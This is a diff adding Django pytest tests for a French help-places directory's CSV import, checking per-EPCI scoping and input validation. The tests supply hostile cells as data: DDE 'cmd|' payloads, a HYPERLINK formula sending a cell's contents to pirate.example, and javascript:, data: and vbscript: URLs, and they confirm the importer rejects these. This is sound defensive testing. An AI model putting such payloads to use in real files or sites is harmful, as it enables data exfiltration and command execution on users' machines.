@@ -16,6 +16,7 @@ from directory.errors import DirectoryError
 from directory.models import HelpPlace
 from directory.services import help_places_import
 from territories.models import EPCI, Commune
+from tests.directory.places import place as stored_place
 
 pytestmark = pytest.mark.django_db
 
@@ -259,6 +260,213 @@ def test_the_epci_given_manages_the_places_and_keeps_them(perche):
     assert entry.target_id == str(perche_cc.pk)
 
 
+# An import for one EPCI (a coordinator's, or `--epci`) -----------------------
+
+PERCHE = "200006971"  # Nogent-le-Rotrou's EPCI, GOOD's
+SENONCHES_CC = "200069912"  # Communauté de communes des Forêts du Perche
+TERRES_DE_PERCHE = "200070167"
+SENONCHES = {"commune": "Senonches", "code_postal": "28250", "code_insee": "28373"}
+LA_LOUPE = {"commune": "La Loupe", "code_postal": "28240", "code_insee": "28214"}
+SENONCHES_REFUSED = (
+    "ligne {line}, commune : Senonches (28373) n'est pas une commune de "
+    "Communauté de communes du Perche : un import pour cet EPCI n'y crée ni n'y "
+    "déplace aucun lieu."
+)
+
+
+@pytest.mark.parametrize("only_valid_rows", [False, True])
+def test_an_import_for_one_epci_writes_nothing_in_another(perche, only_valid_rows):
+    perche_cc = EPCI.objects.get(siren=PERCHE)
+    help_places_import(data=place_csv({"id": "lieu-perche"}), epci=perche_cc)
+    before = table()
+    data = place_csv(
+        {"id": "lieu-senonches", **SENONCHES},
+        # A place of the EPCI, moved by the file to a commune of another.
+        {"id": "lieu-perche", **SENONCHES},
+        {"id": "lieu-bien", "nom": "Médiathèque"},
+    )
+
+    if only_valid_rows:
+        report = help_places_import(data=data, epci=perche_cc, only_valid_rows=True)
+        problems = [str(problem) for problem in report.problems]
+        assert (report.created, report.updated) == (1, 0)
+        created = HelpPlace.objects.get(standard_id="lieu-bien")
+        assert (created.commune.insee_code, created.epci) == ("28280", perche_cc)
+        assert [row for row in table() if row["standard_id"] != "lieu-bien"] == before
+    else:
+        with pytest.raises(DirectoryError) as raised:
+            help_places_import(data=data, epci=perche_cc)
+        problems = raised.value.problems
+        assert raised.value.message == (
+            "Le fichier contient 2 erreur(s) sur 2 ligne(s) : rien n'a été importé."
+        )
+        assert table() == before
+    assert problems == [
+        SENONCHES_REFUSED.format(line=2),
+        SENONCHES_REFUSED.format(line=3),
+    ]
+    assert not HelpPlace.objects.filter(commune__insee_code="28373").exists()
+
+
+def test_an_import_without_epci_still_imports_everywhere(perche):
+    report = help_places_import(
+        data=place_csv({}, {"id": "lieu-2", **SENONCHES}, {"id": "lieu-3", **LA_LOUPE})
+    )
+    assert report.created == 3
+    assert set(HelpPlace.objects.values_list("epci__siren", flat=True)) == {
+        PERCHE,
+        SENONCHES_CC,
+        TERRES_DE_PERCHE,
+    }
+
+
+@pytest.mark.parametrize("only_valid_rows", [False, True])
+@pytest.mark.parametrize("commune", [{}, SENONCHES], ids=["nogent", "senonches"])
+def test_an_import_for_one_epci_does_not_change_a_place_it_does_not_manage(
+    perche, only_valid_rows, commune
+):
+    """By its `id`, whether the line keeps the place where it is or moves it."""
+    help_places_import(data=place_csv({"id": "lieu-b", **SENONCHES}))
+    nogent = Commune.objects.get(insee_code="28280")
+    stored_place(nogent, "lieu-sans-epci")  # no EPCI: only an administrator changes it
+    before = table()
+    data = place_csv(
+        {"id": "lieu-b", "nom": "Repris", **commune},
+        {"id": "lieu-sans-epci", "nom": "Repris"},
+    )
+    perche_cc = EPCI.objects.get(siren=PERCHE)
+    if only_valid_rows:
+        with pytest.raises(DirectoryError, match="Aucune ligne valide") as raised:
+            help_places_import(data=data, epci=perche_cc, only_valid_rows=True)
+    else:
+        with pytest.raises(DirectoryError) as raised:
+            help_places_import(data=data, epci=perche_cc)
+    assert (
+        "ligne 2, id : « lieu-b » est un lieu géré par Communauté de communes des "
+        "Forêts du Perche." in raised.value.problems
+    )
+    assert (
+        "ligne 3, id : « lieu-sans-epci » est un lieu qu'aucun EPCI ne gère : seul "
+        "un administrateur le modifie." in raised.value.problems
+    )
+    assert table() == before
+
+
+def formula_cases():
+    """(column, cell, what the reason says of the cell's start)."""
+    return [
+        ("nom", '=HYPERLINK("https://pirate.example/?d="&A1;"Cliquez")', "= »"),
+        ("adresse", "@SUM(1+1)*cmd|' /C calc'!A0", "@ »"),
+        ("complement_adresse", "+cmd|' /C calc'!A0", "+ »"),
+        ("presentation_detail", "-2+3", "- »"),
+        ("source", "=cmd|' /C calc'!A0", "= »"),
+        ("structure_parente", "\t=1+1", "= »"),
+        ("autres_formations_labels", "\tSUM(1)", "tabulation"),
+        ("presentation_resume", "\rSUM(1)", "retour chariot"),
+        ("typologie", 'ASSO|=HYPERLINK("https://pirate.example")', "= »"),
+        ("horaires", "@Mo-Fr 09:00-12:00", "@ »"),
+        ("id", "-lieu", "- »"),
+        ("commune", "=Nogent-le-Rotrou", "= »"),
+        ("prise_rdv", '=HYPERLINK("https://rdv.example.org")', "= »"),
+    ]
+
+
+@pytest.mark.parametrize(("column", "value", "start"), formula_cases())
+def test_a_cell_a_spreadsheet_would_run_is_refused(perche, column, value, start):
+    # Quoted, as a spreadsheet writes it (a bare carriage return ends a line).
+    quoted = '"' + value.replace('"', '""') + '"'
+    data = place_csv({column: "CELLULE"}).replace(b"CELLULE", quoted.encode())
+    with pytest.raises(DirectoryError) as raised:
+        help_places_import(data=data)
+    (problem,) = raised.value.problems
+    assert problem.startswith(f"ligne 2, {column} : « ")
+    assert (
+        f"{start}, qu'un tableur prendrait pour le début d'une formule et "
+        "exécuterait : retirez ce caractère du début de la cellule."
+    ) in problem
+    assert not HelpPlace.objects.exists()
+
+
+def test_phone_numbers_negative_numbers_dates_and_lists_are_no_formulas(perche):
+    help_places_import(
+        data=place_csv(
+            {
+                "telephone": "+33237521234",
+                "latitude": "48.3201",
+                "longitude": "-0.8115",
+                "date_maj": "2026-11-02",
+                "typologie": "MUNI|ASSO",
+                "frais_a_charge": "Gratuit",
+                "nom": "PIJ - Espace jeunes",
+                "presentation_detail": "Ateliers : = égalité, + de 20 ans, @PIJ",
+                "courriels": "pij+contact@nogent.fr",
+            }
+        )
+    )
+    place = HelpPlace.objects.get()
+    assert place.telephone == "+33237521234"
+    assert place.longitude == -0.8115
+    assert place.courriels == ["pij+contact@nogent.fr"]
+
+
+@pytest.mark.parametrize(
+    ("column", "value", "expected"),
+    [
+        (
+            "site_web",
+            "javascript:alert(document.cookie)",
+            "ligne 2, site_web : « javascript:alert(document.cookie) » n'est pas une "
+            "adresse web : elle commence par https:// ou http:// (exemple : "
+            "https://www.laquincaillerie.tl/).",
+        ),
+        (
+            "site_web",
+            "https://pij.example.org|JavaScript:alert(1)",
+            "ligne 2, site_web : « JavaScript:alert(1) » n'est pas une adresse web",
+        ),
+        (
+            "site_web",
+            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+            "« data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== » n'est "
+            "pas une adresse web",
+        ),
+        ("site_web", "ftp://ftp.example.org/", "« ftp://ftp.example.org/ » n'est pas"),
+        ("site_web", "www.pij-nogent.fr", "« www.pij-nogent.fr » n'est pas une adr"),
+        (
+            "prise_rdv",
+            "javascript:alert(1)",
+            "ligne 2, prise_rdv : « javascript:alert(1) » n'est pas une adresse web",
+        ),
+        (
+            "fiche_acces_libre",
+            "vbscript:msgbox(1)",
+            "ligne 2, fiche_acces_libre : « vbscript:msgbox(1) » n'est pas une adr",
+        ),
+        (
+            "courriels",
+            "contact@pij",
+            "ligne 2, courriels : « contact@pij » n'est pas une adresse électronique "
+            "valide (exemple : contact@laquincaillerie.tl).",
+        ),
+        (
+            "courriels",
+            "pij@nogent.fr|pas une adresse",
+            "ligne 2, courriels : « pas une adresse » n'est pas une adresse électr",
+        ),
+        (
+            "courriels",
+            "pij@nogent.fr?bcc=tous@example.org",
+            "« pij@nogent.fr?bcc=tous@example.org » n'est pas une adresse électr",
+        ),
+    ],
+)
+def test_web_addresses_and_emails_are_real_ones(perche, column, value, expected):
+    with pytest.raises(DirectoryError) as raised:
+        help_places_import(data=place_csv({column: value}))
+    assert expected in "\n".join(raised.value.problems)
+    assert not HelpPlace.objects.exists()
+
+
 def latin1_file() -> bytes:
     return place_csv({}, {"id": "lieu-2", "nom": "Épicerie"}).replace(
         "Épicerie".encode(), "Épicerie".encode("latin-1")
@@ -483,11 +691,26 @@ def test_command_imports_and_prints_the_report(perche, capsys):
 
 def test_command_assigns_the_epci(perche, tmp_path):
     path = tmp_path / "lieux.csv"
-    path.write_bytes(place_csv({}))
-    call_command("import_help_places", str(path), "--epci", "200070167")
-    assert HelpPlace.objects.get().epci.siren == "200070167"
+    path.write_bytes(place_csv(LA_LOUPE))
+    call_command("import_help_places", str(path), "--epci", TERRES_DE_PERCHE)
+    assert HelpPlace.objects.get().epci.siren == TERRES_DE_PERCHE
     with pytest.raises(CommandError, match="Aucun EPCI de SIREN 999999999"):
         call_command("import_help_places", str(path), "--epci", "999999999")
+
+
+def test_command_with_an_epci_refuses_the_lines_of_another(perche, tmp_path, capsys):
+    path = tmp_path / "lieux.csv"
+    path.write_bytes(place_csv({}, {"id": "lieu-2", **SENONCHES}))
+    with pytest.raises(CommandError) as raised:
+        call_command("import_help_places", str(path), "--epci", PERCHE)
+    assert SENONCHES_REFUSED.format(line=3) in str(raised.value)
+    assert not HelpPlace.objects.exists()
+
+    call_command("import_help_places", str(path), "--epci", PERCHE, "--lignes-valides")
+    assert "Rejetée : " + SENONCHES_REFUSED.format(line=3) in capsys.readouterr().out
+    assert list(HelpPlace.objects.values_list("standard_id", "epci__siren")) == [
+        ("lieu-1", PERCHE)
+    ]
 
 
 def test_command_reports_every_problem_and_writes_nothing(perche, tmp_path):
